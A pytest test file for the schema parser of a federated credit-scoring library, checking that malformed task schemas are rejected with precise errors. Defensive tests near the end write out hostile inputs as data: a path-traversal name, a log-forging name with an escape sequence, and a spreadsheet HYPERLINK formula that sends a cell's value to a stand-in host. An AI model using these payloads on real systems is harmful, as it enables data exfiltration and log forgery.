"""Task schema files: the bundled one loads; malformed ones are rejected with the entry named."""

from __future__ import annotations

import dataclasses
import hashlib
import json
from enum import Enum
from pathlib import Path

import pytest

from fedscore.core.errors import SchemaError
from fedscore.core.schema import Role, load_schema, parse_schema, schema_json_schema
from fedscore.core.schema.columns import COLUMN_MODELS
from fedscore.datasets import default_task_path

#: The bundled schema as the hand-written parser read it before the typed document models.
BUNDLED_SCHEMA_DUMP = Path(__file__).parent / "data" / "default_risk_schema.json"


def test_bundled_schema_declares_every_role(schema):
    assert schema.name == "default_risk"
    assert schema.customer_key.name == "customer_id"
    assert schema.label.positive == "1"
    assert schema.consent is None  # consent comes from each institution's consent table
    direct = {c.name: c.action for c in schema.by_role(Role.DIRECT_IDENTIFIER)}
    assert direct == {
        "name": "drop",
        "id_number": "pseudonymize",
        "mobile": "drop",
        "card_number": "drop",
    }
    assert {c.name for c in schema.quasi_identifiers} == {
        "SEX",
        "EDUCATION",
        "MARRIAGE",
        "AGE",
        "province",
        "city",
        "district",
        "application_date",
    }
    assert schema.column("AGE").generalize.band == 10
    rules = schema.deidentification
    assert (rules.k_min, rules.privacy_unit, rules.max_rows_per_customer) == (5, "id_number", 1)
    assert len(schema.features) == 23
    assert len(schema.sha256) == 64


def test_minimal_schema_parses(minimal_schema):
    parsed = parse_schema(minimal_schema, source="minimal.toml")
    assert [c.role for c in parsed.columns] == [Role.CUSTOMER_KEY, Role.LABEL, Role.NUMERIC]


@pytest.mark.parametrize(
    ("change", "expected"),
    [
        (('role = "numeric"', 'role = "number"'), "[[columns]] 'x': 'role' must be one of"),
        (("max = 10", "max = -1"), "'min' must be smaller than 'max'"),
        (("positive = 1\n", ""), "the label needs 'positive'"),
        (("max = 10", 'max = 10\ntransform = "sqrt"'), "'transform' must be one of"),
        (("max = 10", "max = 10\nbins = [5, 2]"), "'bins' must be strictly ascending"),
        (('name = "t"', 'name = ""'), "[task]: 'name' must be a non-empty string"),
        (('role = "customer_key"', 'role = "ignore"'), "exactly one 'customer_key'"),
        (("[task]", "[task\n"), "not valid TOML"),
    ],
)
def test_malformed_schemas_name_the_entry(change, expected, minimal_schema):
    text = minimal_schema.replace(*change)
    with pytest.raises(SchemaError) as caught:
        parse_schema(text, source="bad.toml")
    assert "bad.toml" in str(caught.value)
    assert expected in str(caught.value)


HIERARCHY = """
[[columns]]
name = "district"
role = "quasi_identifier"

[[columns]]
name = "city"
role = "quasi_identifier"

[[columns]]
name = "province"
role = "quasi_identifier"

[deidentification]
k_min = 3
privacy_unit = "id"
hierarchies = [{ levels = ["district", "city", "province"], release = "city" }]
"""


def test_hierarchy_and_rules_parse(minimal_schema):
    rules = parse_schema(minimal_schema + HIERARCHY).deidentification
    assert rules.k_min == 3
    (hierarchy,) = rules.hierarchies
    assert hierarchy.generalized == ("district",)


@pytest.mark.parametrize(
    ("change", "expected"),
    [
        (('release = "city"', 'release = "town"'), "needs 'levels'"),
        (('privacy_unit = "id"', 'privacy_unit = "x"'), "privacy_unit 'x' must be"),
        (("k_min = 3", "k_min = 0"), r"\[deidentification\]: 'k_min' must be >= 1"),
        (
            ('name = "city"\nrole = "quasi_identifier"', 'name = "city"\nrole = "ignore"'),
            "level 'city' must be a declared quasi-identifier",
        ),
    ],
)
def test_malformed_deidentification_rules(change, expected, minimal_schema):
    with pytest.raises(SchemaError, match=expected):
        parse_schema((minimal_schema + HIERARCHY).replace(*change), source="bad.toml")


def test_generalize_only_quasi_identifiers(minimal_schema):
    text = minimal_schema.replace("max = 10", "max = 10\ngeneralize = { band = 5 }")
    with pytest.raises(SchemaError, match="only quasi-identifiers can be generalized"):
        parse_schema(text, source="bad.toml")


def test_derived_feature_must_use_numeric_columns(minimal_schema):
    text = (
        minimal_schema + '\n[[derived]]\nname = "r"\nkind = "ratio"\nnumerator = "x"\n'
        'denominator = "id"\nmin = 0\nmax = 1\n'
    )
    with pytest.raises(SchemaError, match="needs numeric feature columns"):
        parse_schema(text, source="bad.toml")


def test_unreadable_schema_file(tmp_path):
    with pytest.raises(SchemaError, match="cannot read task schema"):
        load_schema(tmp_path / "absent.toml")


def canonical(value: object) -> object:
    """A JSON-able dump of schema objects that keeps their types (float vs int, enum, tuple)."""
    if dataclasses.is_dataclass(value):
        out = {"type": type(value).__name__}
        for item in dataclasses.fields(value):
            if item.name not in ("raw_toml", "source"):
                out[item.name] = canonical(getattr(value, item.name))
        return out
    if isinstance(value, Enum):
        return f"{type(value).__name__}.{value.name}"
    if isinstance(value, tuple):
        return [canonical(v) for v in value]
    assert value is None or isinstance(value, bool | int | float | str), type(value)
    return value


def test_bundled_schema_parses_exactly_as_before():
    schema = load_schema(default_task_path())
    dump = canonical(schema)
    dump["levels"] = {
        c.name: [[name, list(members)] for name, members in c.categorical.levels()]
        for c in schema.columns
        if c.categorical
    }
    assert dump == json.loads(BUNDLED_SCHEMA_DUMP.read_text(encoding="utf-8"))
    text = default_task_path().read_text(encoding="utf-8")
    assert schema.raw_toml == text and schema.source == str(default_task_path())
    assert schema.sha256 == hashlib.sha256(text.encode("utf-8")).hexdigest()


def problems_of(text: str) -> list[str]:
    """The lines of the error parsing `text` (as bad.toml) raises, without the first."""
    with pytest.raises(SchemaError) as caught:
        parse_schema(text, source="bad.toml")
    first, *lines = str(caught.value).splitlines()
    assert first.startswith("bad.toml: ")
    return [line.removeprefix("  - ") for line in lines]


CATEGORICAL = '\n[[columns]]\nname = "c"\nrole = "categorical"\ncategories = [1, 2]\n'


@pytest.mark.parametrize(
    ("change", "expected"),
    [
        (
            ("categories = [1, 2]", 'categories = [1, 2]\nquasi_identifier = "false"'),
            "[[columns]] 'c': 'quasi_identifier' must be true or false",
        ),
        (("max = 10", 'max = 10\nscaled = "false"\nbins = [5]'), "'scaled' must be true or false"),
        (('purpose = "p"', 'purpose = "p"\nversion = 2'), "[task]: 'version' must be a string"),
        (("k_min = 3", 'k_min = "3"'), "[deidentification]: 'k_min' must be an integer"),
        (("k_min = 3", "k_min = 3.0"), "[deidentification]: 'k_min' must be an integer"),
        (("k_min = 3", "k_min = 3\nmax_suppression_rate = true"), "must be a number"),
        (("positive = 1", "positive = true"), "[[columns]] 'y': 'positive' must be an integer"),
        (("categories = [1, 2]", "categories = [1, 2.5]"), "'categories' #2 must be an integer"),
        (('privacy_unit = "id"', 'privacy_unit = ""'), "'privacy_unit' must be a non-empty"),
    ],
)
def test_values_of_the_wrong_type_are_rejected_not_converted(change, expected, minimal_schema):
    text = (minimal_schema + CATEGORICAL + HIERARCHY).replace(*change)
    assert text != minimal_schema + CATEGORICAL + HIERARCHY
    assert expected in "\n".join(problems_of(text))


@pytest.mark.parametrize(
    ("change", "expected"),
    [
        (("max = 10", "max = inf"), "[[columns]] 'x': 'max' must be a finite number"),
        (("min = 0", "min = -inf"), "[[columns]] 'x': 'min' must be a finite number"),
        (("max = 10", "max = 10\nbins = [nan]"), "'bins' #1 must be a finite number"),
        (("max = 10", "max = 10\ngeneralize = { band = inf }"), "'generalize.band' must be a"),
    ],
)
def test_numbers_must_be_finite(change, expected, minimal_schema):
    assert expected in "\n".join(problems_of(minimal_schema.replace(*change)))


@pytest.mark.parametrize(
    ("change", "expected"),
    [
        (
            ("max = 10", "max = 10\ngeneralise = { band = 5 }"),
            "[[columns]] 'x': a numeric column has no key 'generalise' "
            "(did you mean 'generalize'?)",
        ),
        (
            ("k_min = 3", "k-min = 3"),
            "[deidentification]: unknown key 'k-min' (did you mean 'k_min'?)",
        ),
        (('name = "t"', 'name = "t"\npurpos = "p"'), "[task]: unknown key 'purpos' (did you"),
        (("[task]", "schema_versoin = 1\n[task]"), "top level: unknown key 'schema_versoin'"),
    ],
)
def test_unknown_keys_are_errors_with_a_hint(change, expected, minimal_schema):
    assert expected in "\n".join(problems_of((minimal_schema + HIERARCHY).replace(*change)))


@pytest.mark.parametrize(
    ("change", "expected"),
    [
        (
            ("categories = [1, 2]", "categories = [1, 2]\nmin = 0"),
            "[[columns]] 'c': a categorical column has no key 'min'",
        ),
        (("max = 10", "max = 10\npositive = 1"), "a numeric column has no key 'positive'"),
        (("max = 10", "max = 10\nkeep = false"), "a numeric column has no key 'keep'"),
        (("negative = 0", 'negative = 0\naction = "drop"'), "the label has no key 'action'"),
        (('role = "customer_key"', 'role = "customer_key"\nkeep = true'), "no key 'keep'"),
    ],
)
def test_keys_that_do_not_apply_to_the_role_are_errors(change, expected, minimal_schema):
    assert expected in "\n".join(problems_of((minimal_schema + CATEGORICAL).replace(*change)))


def test_every_problem_is_reported_together(minimal_schema):
    text = minimal_schema.replace("max = 10", "max = inf") + CATEGORICAL.replace(
        "categories", 'quasi_identifier = "no"\ncategories'
    )
    assert problems_of(text) == [
        "[[columns]] 'x': 'max' must be a finite number",
        "[[columns]] 'c': 'quasi_identifier' must be true or false",
    ]
    # The rules across entries are reported together too, once every entry is valid.
    text = minimal_schema.replace('role = "customer_key"', 'role = "ignore"') + (
        '\n[[columns]]\nname = "x"\nrole = "ignore"\n'
    )
    assert problems_of(text) == [
        "[[columns]]: columns declared twice: ['x']",
        "[[columns]]: exactly one 'customer_key' column is required (the person, "
        "pseudonymized); when each row is a different person and there is no key, declare "
        'privacy_unit = "row" under [deidentification] instead',
    ]


def test_an_entry_without_a_name_is_named_by_its_position(minimal_schema):
    text = minimal_schema + '\n[[columns]]\nrole = "numeric"\nmin = 0\nmax = 1\n'
    assert problems_of(text) == ["[[columns]] #4: a numeric column needs 'name'"]


def test_a_name_that_could_forge_a_line_or_leave_a_folder_is_refused(minimal_schema):
    """A schema comes from another member: its names reach messages, logs and folders."""
    text = minimal_schema.replace('name = "t"', 'name = "../../x"').replace(
        'name = "x"', 'name = "x\\nINFO round 3 trained\\u001b[2J"'
    )
    found = problems_of(text)
    assert found == [
        "[task]: 'name' must be 1 to 64 letters, digits, '.', '_' or '-', starting with a letter "
        "or digit: a registered model's folder is named <task>-v<number>, and runs and ledgers "
        "record the task by it",
        "[[columns]] #3: 'name' must not hold control or text-direction characters (a line "
        "break, an escape sequence): names are printed in messages and logs",
    ]


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_a_name_a_spreadsheet_would_run_as_a_formula_is_refused(minimal_schema, start):
    """A feature's name becomes a reason code in every party's scored CSV files: a derived
    feature (which no party's table has to hold) named =HYPERLINK(...) would run there."""
    formula = f'{start}HYPERLINK(""https://x.example/?""&A2,""details"")'
    text = minimal_schema + (
        f'\n[[derived]]\nname = "{formula.replace(chr(34), chr(92) + chr(34))}"\nkind = "count"\n'
        'columns = ["x"]\nvalue = 1\nmin = 0\nmax = 1\n'
    )
    (found,) = problems_of(text)
    assert found.startswith("[[derived]] #1: 'name' must not start with '=', '+', '-', '@'")
    assert "HYPERLINK" not in found


@pytest.mark.parametrize(
    ("addition", "expected"),
    [
        (
            '[[columns]]\nname = "c"\nrole = "categorical"\ncategories = [1, 2]\n'
            "groups = { a = [1], b = [1, 2] }\n",
            "[[columns]] 'c': 'groups.b' names categories of another group",
        ),
        (
            '[[columns]]\nname = "ok"\nrole = "consent"\ngranted = ["Y"]\nrefused = ["Y"]\n',
            "[[columns]] 'ok': a value cannot be both 'granted' and 'refused'",
        ),
        (
            '[[derived]]\nname = "r"\nkind = "ratio"\nnumerator = "x"\ndenominator = "x"\n'
            "floor = 0\nmin = 0\nmax = 1\n",
            "[[derived]] 'r': 'floor' must be > 0",
        ),
        (
            '[[derived]]\nname = "n"\nkind = "count"\ncolumns = ["x"]\nvalue = 1\nmin = 0\n'
            'max = 1\n[[derived]]\nname = "n"\nkind = "count"\ncolumns = ["x"]\nvalue = 2\n'
            "min = 0\nmax = 1\n",
            "[[derived]] 'n': name clashes with another derived feature",
        ),
    ],
)
def test_rules_the_loose_parser_did_not_check(addition, expected, minimal_schema):
    text = minimal_schema + addition
    assert expected in problems_of(text)


def test_schema_version_one_is_accepted_and_no_other(minimal_schema):
    assert parse_schema("schema_version = 1\n" + minimal_schema).name == "t"
    lines = problems_of("schema_version = 2\n" + minimal_schema)
    assert lines == ["top level: 'schema_version' must be 1"]


def test_the_json_schema_describes_each_role():
    document = schema_json_schema()
    mapping = document["properties"]["columns"]["items"]["discriminator"]["mapping"]
    assert set(mapping) == {role.value for role in Role} == set(COLUMN_MODELS)
    assert document["additionalProperties"] is False
    assert document["$defs"]["NumericColumn"]["required"] == ["min", "max", "name", "role"]
